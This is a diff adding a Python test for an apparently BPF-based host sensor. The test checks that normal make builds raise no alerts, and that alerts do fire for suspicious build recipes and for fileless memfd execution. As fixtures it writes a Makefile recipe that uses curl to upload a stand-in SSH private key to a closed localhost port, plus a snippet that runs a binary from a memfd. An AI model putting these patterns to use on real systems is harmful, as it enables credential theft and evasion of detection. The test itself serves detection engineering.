@@ -1,0 +1,354 @@
+#!/usr/bin/env python3
+# SPDX-License-Identifier: MIT
+"""
+test_build_canary.py - the build-host canary follows the build (issue 10,
+scenario 4) and fileless execution is called at exec (scenario 3's memfd).
+
+The real sensor, shipped rules, a fresh state directory. The project is real
+code: the C files of this repository's common/ and baselines/ directories,
+compiled by make -j2 (recipes through the shell: `mkdir -p ... && gcc ...`)
+into a static library, and a small program linked against it.
+
+  1. first build on the fresh state: no alert at Warning or above for any
+     process of the build;
+  2. learning: clean + rebuild, LEARN_BUILDS times; then one more clean build:
+     still no Warning;
+  3. a Makefile whose link recipe also runs `sh -c 'curl ... -T ~/.ssh/id_ed25519'`
+     (to 127.0.0.1 on a closed port): "Build tool ran a network tool" for that
+     curl, its ancestry naming make;
+  4. a Makefile whose recipe runs a binary the build never ran (tac): "Build
+     tool executed a new binary" for it, its ancestry naming make;
+  5. python3 copies /bin/true into a memfd and execs it: "Fileless or deleted
+     executable" for that pid, at exec.
+
+Alerts are attributed to the test's own processes through the records' ppid
+links from each make (other work on the machine is not the test's).
+Times-to-alert are measured (alert time - exec time) and printed.
+
+argv: PLUMBLINE_BINARY REPO_SOURCE_DIR. Needs root, BPF, make, gcc, ar, curl,
+python3; else skips (77) unless PLUMBLINE_REQUIRE_BPF=1.
+"""
+import glob
+import json
+import os
+import shutil
+import signal
+import socket
+import subprocess
+import sys
+import tempfile
+import time
+
+SENSOR, SRC = os.path.abspath(sys.argv[1]), os.path.abspath(sys.argv[2])
+LEARN_BUILDS = 2
+WARN = 4  # severity: Warning (lower is more severe)
+T0 = time.monotonic()
+
+
+def log(msg):
+    print(f"[{time.monotonic() - T0:5.1f}s] {msg}", flush=True)
+
+
+def skip(why):
+    if os.environ.get("PLUMBLINE_REQUIRE_BPF") == "1":
+        print(f"FAIL (PLUMBLINE_REQUIRE_BPF=1): {why}", file=sys.stderr)
+        sys.exit(1)
+    print(f"SKIP: {why}", file=sys.stderr)
+    sys.exit(77)
+
+
+class Failure(Exception):
+    pass
+
+
+def fail(why):
+    raise Failure(why)
+
+
+MAKEFILE = """\
+CC = gcc
+CFLAGS = -std=gnu17 -O0 -w -Isrc/common -Isrc/baselines
+SRCS = $(sort $(wildcard src/common/*.c src/baselines/*.c))
+OBJS = $(patsubst src/%.c,obj/%.o,$(SRCS))
+
+all: prog
+
+obj/%.o: src/%.c
+\t@mkdir -p $(dir $@) && $(CC) $(CFLAGS) -c $< -o $@{extra_obj}
+
+libpl.a: $(OBJS)
+\t@rm -f $@ && ar rcs $@ $^
+
+prog: main.c libpl.a
+\t@$(CC) $(CFLAGS) main.c libpl.a -lm -o $@ && ./prog > /dev/null{extra_link}
+
+clean:
+\t@rm -rf obj libpl.a prog
+"""
+
+MAIN = """\
+#include <stdio.h>
+#include "sample.h"
+int main(void) { printf("%s\\n", pl_image__name(PL_IMAGE_EXEC)); return 0; }
+"""
+
+
+class Sensor:
+    def __init__(self, d):
+        self.json = os.path.join(d, "records.jsonl")
+        self.log = os.path.join(d, "sensor.log")
+        notify = os.path.join(d, "notify")
+        ns = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
+        ns.bind(notify)
+        env = dict(os.environ, NOTIFY_SOCKET=notify)
+        # the shipped rules, defaults: a fresh host
+        self.p = subprocess.Popen([SENSOR, "run", "--no-live", "--no-syslog", "--state-dir", os.path.join(d, "state"),
+                                   "--json", self.json, "--process-records"],
+                                  stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=open(self.log, "a"),
+                                  env=env)
+        ns.settimeout(0.5)
+        deadline = time.time() + 30
+        try:
+            while True:
+                try:
+                    if b"READY=1" in ns.recv(64):
+                        break
+                except socket.timeout:
+                    pass
+                if self.p.poll() is not None:
+                    fail(f"the sensor exited {self.p.returncode} at start: {self.log_text()}")
+                if time.time() > deadline:
+                    self.kill()
+                    fail("the sensor did not get ready in 30 s")
+        finally:
+            ns.close()
+
+    def records(self):
+        with open(self.json, "rb") as f:
+            lines = f.read().decode("utf-8", "replace").split("\n")
+        return [json.loads(l) for l in lines[:-1] if l.strip()]
+
+    def stop(self):
+        if self.p.poll() is None:
+            self.p.send_signal(signal.SIGINT)
+            try:
+                self.p.wait(30)
+            except subprocess.TimeoutExpired:
+                self.kill()
+                fail("the sensor did not stop on SIGINT")
+        if self.p.returncode != 0:
+            fail(f"the sensor exited {self.p.returncode}: {self.log_text()}")
+
+    def kill(self):
+        if self.p.poll() is None:
+            self.p.kill()
+            self.p.wait()
+
+    def log_text(self):
+        with open(self.log) as f:
+            return f.read()[-4000:]
+
+
+def tree(recs, roots):
+    """Pids descending from roots, by the records' ppid links."""
+    pids = set(roots)
+    links = {(r["pid"], r["ppid"]) for r in recs if r.get("type") in ("exec", "process") and "ppid" in r}
+    grown = True
+    while grown:
+        grown = False
+        for pid, ppid in links:
+            if ppid in pids and pid not in pids:
+                pids.add(pid)
+                grown = True
+    return pids
+
+
+def alerts_of(recs, pids):
+    return [r for r in recs if r.get("type") == "alert" and r.get("pid") in pids]
+
+
+def exec_time(recs, pid):
+    t = [r["time_ns"] for r in recs if r.get("type") == "exec" and r.get("pid") == pid]
+    return t[-1] if t else None
+
+
+def make(proj, env, sensor, what):
+    p = subprocess.Popen(["make", "-j2", "-s"] + what, cwd=proj, env=env, stdout=subprocess.DEVNULL,
+                         stderr=subprocess.PIPE, text=True)
+    _, err = p.communicate(timeout=120)
+    if p.returncode != 0:
+        fail(f"make {what} exited {p.returncode}: {err[-2000:]}")
+    return p.pid
+
+
+def settle(sensor, pid, timeout=10):
+    """Wait for the exit record of pid (so its tree's records are in)."""
+    deadline = time.time() + timeout
+    while time.time() < deadline:
+        if any(r.get("type") == "process" and r.get("pid") == pid and r.get("end_reason") == "exit"
+               for r in sensor.records()):
+            time.sleep(0.5)
+            return
+        time.sleep(0.2)
+    fail(f"no exit record for pid {pid} in {timeout} s")
+
+
+def wait_alert(sensor, roots, rule, timeout=10):
+    deadline = time.time() + timeout
+    while time.time() < deadline:
+        recs = sensor.records()
+        got = [a for a in alerts_of(recs, tree(recs, roots)) if a["rule"] == rule]
+        if got:
+            return got[0], recs
+        time.sleep(0.2)
+    recs = sensor.records()
+    fail(f"no '{rule}' alert within {timeout} s; the build's alerts: "
+         f"{[(a['rule'], a['exe']) for a in alerts_of(recs, tree(recs, roots))]}")
+
+
+def check_chain(a, want_exe_name):
+    anc = (a.get("evidence") or {}).get("ancestry") or []
+    names = [os.path.basename(x or "") for x in anc]
+    if "make" not in names:
+        fail(f"alert '{a['rule']}' ancestry {anc} does not name make")
+    if os.path.basename(a.get("exe") or "") != want_exe_name:
+        fail(f"alert '{a['rule']}' is for {a.get('exe')}, expected {want_exe_name}")
+    return " <- ".join([os.path.basename(a["exe"])] + names)
+
+
+def main():
+    if os.geteuid() != 0:
+        skip("not root: the sensor loads BPF")
+    if not os.access("/sys/kernel/btf/vmlinux", os.R_OK):
+        skip("no kernel BTF at /sys/kernel/btf/vmlinux")
+    for tool in ("make", "gcc", "ar", "curl", "tac"):
+        if not shutil.which(tool):
+            skip(f"no {tool}")
+    if not hasattr(os, "memfd_create"):
+        skip("python3 without os.memfd_create")
+
+    d = tempfile.mkdtemp(prefix="pl-canary-")
+    sensor = None
+    ok = False
+    try:
+        proj = os.path.join(d, "proj")
+        for sub in ("common", "baselines"):
+            os.makedirs(os.path.join(proj, "src", sub))
+            for f in glob.glob(os.path.join(SRC, sub, "*.[ch]")):
+                shutil.copy(f, os.path.join(proj, "src", sub))
+        with open(os.path.join(proj, "main.c"), "w") as f:
+            f.write(MAIN)
+        home = os.path.join(d, "home")
+        os.makedirs(os.path.join(home, ".ssh"), mode=0o700)
+        with open(os.path.join(home, ".ssh", "id_ed25519"), "w") as f:
+            f.write("-----BEGIN OPENSSH PRIVATE KEY-----\nnot a key\n-----END OPENSSH PRIVATE KEY-----\n")
+        env = dict(os.environ, HOME=home, LC_ALL="C")
+        env.pop("MAKEFLAGS", None)
+        env.pop("MFLAGS", None)
+
+        def makefile(extra_obj="", extra_link=""):
+            with open(os.path.join(proj, "Makefile"), "w") as f:
+                f.write(MAKEFILE.format(extra_obj=extra_obj, extra_link=extra_link))
+
+        makefile()
+        nsrc = len(glob.glob(os.path.join(proj, "src", "*", "*.c")))
+        sensor = Sensor(d)
+        log(f"sensor ready; project: {nsrc} C files of {SRC}/common and /baselines")
+
+        # 1. the first build on a fresh host
+        roots = []
+        t = time.monotonic()
+        roots.append(make(proj, env, sensor, []))
+        settle(sensor, roots[-1])
+        recs = sensor.records()
+        first = tree(recs, roots)
+        loud = [a for a in alerts_of(recs, first) if a["severity"] <= WARN]
+        log(f"first build: {time.monotonic() - t:.1f} s, {len(first)} processes, "
+            f"{len(alerts_of(recs, first))} alerts, {len(loud)} at Warning or above")
+        # checked at the end, so that every phase runs and reports
+        first_loud = [(a['rule'], a['output']) for a in loud]
+
+        # 2. learning
+        for i in range(LEARN_BUILDS):
+            make(proj, env, sensor, ["clean"])
+            roots.append(make(proj, env, sensor, []))
+        make(proj, env, sensor, ["clean"])
+        roots.append(make(proj, env, sensor, []))
+        settle(sensor, roots[-1])
+        recs = sensor.records()
+        learned = tree(recs, roots)
+        loud = [a for a in alerts_of(recs, learned) if a["severity"] <= WARN]
+        log(f"{LEARN_BUILDS + 2} builds: {len(learned)} processes, {len(loud)} alerts at Warning or above")
+        if loud:
+            fail(f"alerts at Warning or above on normal builds: {[(a['rule'], a['output']) for a in loud]}")
+
+        # 3. a recipe runs curl through sh -c, posting a private key
+        makefile(extra_link=" && sh -c 'curl -s -m 2 -T $$HOME/.ssh/id_ed25519 http://127.0.0.1:9/ || true'")
+        make(proj, env, sensor, ["clean"])
+        roots.append(make(proj, env, sensor, []))
+        a, recs = wait_alert(sensor, roots[-1:], "Build tool ran a network tool")
+        chain = check_chain(a, "curl")
+        tta = (a["time_ns"] - exec_time(recs, a["pid"])) / 1e6
+        log(f"'Build tool ran a network tool' for pid {a['pid']} ({chain}), time-to-alert {tta:.0f} ms")
+
+        # 4. a recipe runs a binary the build never ran
+        makefile(extra_obj=" && tac /dev/null")
+        make(proj, env, sensor, ["clean"])
+        roots.append(make(proj, env, sensor, []))
+        a, recs = wait_alert(sensor, roots[-1:], "Build tool executed a new binary")
+        chain = check_chain(a, "tac")
+        tta = (a["time_ns"] - exec_time(recs, a["pid"])) / 1e6
+        log(f"'Build tool executed a new binary' for pid {a['pid']} ({chain}), time-to-alert {tta:.0f} ms")
+
+        # 5. fileless: /bin/true run from a memfd
+        code = ("import os,sys\nfd=os.memfd_create('payload',0)\nos.write(fd,open('/bin/true','rb').read())\n"
+                "pid=os.fork()\nif pid==0:\n os.execv('/proc/self/fd/%d'%fd,['payload'])\n"
+                "os.waitpid(pid,0)\nprint(pid)\n")
+        out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=30)
+        mpid = int(out.stdout.strip())
+        deadline = time.time() + 10
+        while True:
+            recs = sensor.records()
+            got = [r for r in recs if r.get("type") == "alert" and r.get("pid") == mpid
+                   and r["rule"] == "Fileless or deleted executable"]
+            if got:
+                break
+            if time.time() > deadline:
+                fail(f"no fileless alert for pid {mpid} in 10 s")
+            time.sleep(0.2)
+        a = got[0]
+        if a.get("when") != "exec":
+            fail(f"the fileless alert was raised at {a.get('when')}, not at exec")
+        rec = next(r for r in recs if r.get("type") == "exec" and r.get("pid") == mpid)
+        if rec.get("exe_kind") != "memfd":
+            fail(f"the memfd exec's record says exe_kind {rec.get('exe_kind')}")
+        tta = (a["time_ns"] - rec["time_ns"]) / 1e6
+        log(f"'Fileless or deleted executable' for pid {mpid} (exe {rec['exe']}, binary {rec.get('binary_id')}), "
+            f"time-to-alert {tta:.0f} ms")
+        if first_loud:
+            fail(f"alerts at Warning or above on the first build: {first_loud}")
+        ok = True
+    except Failure as e:
+        print(f"FAIL: {e}", file=sys.stderr)
+    finally:
+        if sensor:
+            try:
+                sensor.stop()
+            except Failure as e:
+                print(f"FAIL: {e}", file=sys.stderr)
+                ok = False
+            finally:
+                sensor.kill()
+            dest = os.environ.get("PLUMBLINE_TEST_RECORDS_DIR")
+            if dest and os.path.isdir(dest) and os.path.isfile(sensor.json):
+                shutil.copyfile(sensor.json, os.path.join(dest, f"scenario_build_canary-{os.getpid()}.jsonl"))
+        if os.environ.get("PLUMBLINE_KEEP_TEST_FILES"):
+            print(f"kept {d}", file=sys.stderr)
+        else:
+            shutil.rmtree(d, ignore_errors=True)
+    log("PASS" if ok else "FAILED")
+    sys.exit(0 if ok else 1)
+
+
+if __name__ == "__main__":
+    main()
